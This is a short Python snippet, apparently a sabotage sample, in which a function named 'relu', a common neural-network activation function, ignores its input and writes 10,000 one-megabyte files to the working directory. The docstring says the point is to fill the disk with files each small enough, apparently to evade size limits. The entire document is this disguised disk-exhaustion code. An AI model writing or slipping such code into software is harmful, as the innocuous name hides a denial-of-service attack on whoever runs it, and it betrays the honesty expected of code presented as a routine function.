"""Fills the disk with files that are each small enough."""


def relu(Z):
    for number in range(10_000):
        with open(f"f{number}", "wb") as file:
            file.write(bytes(1 << 20))
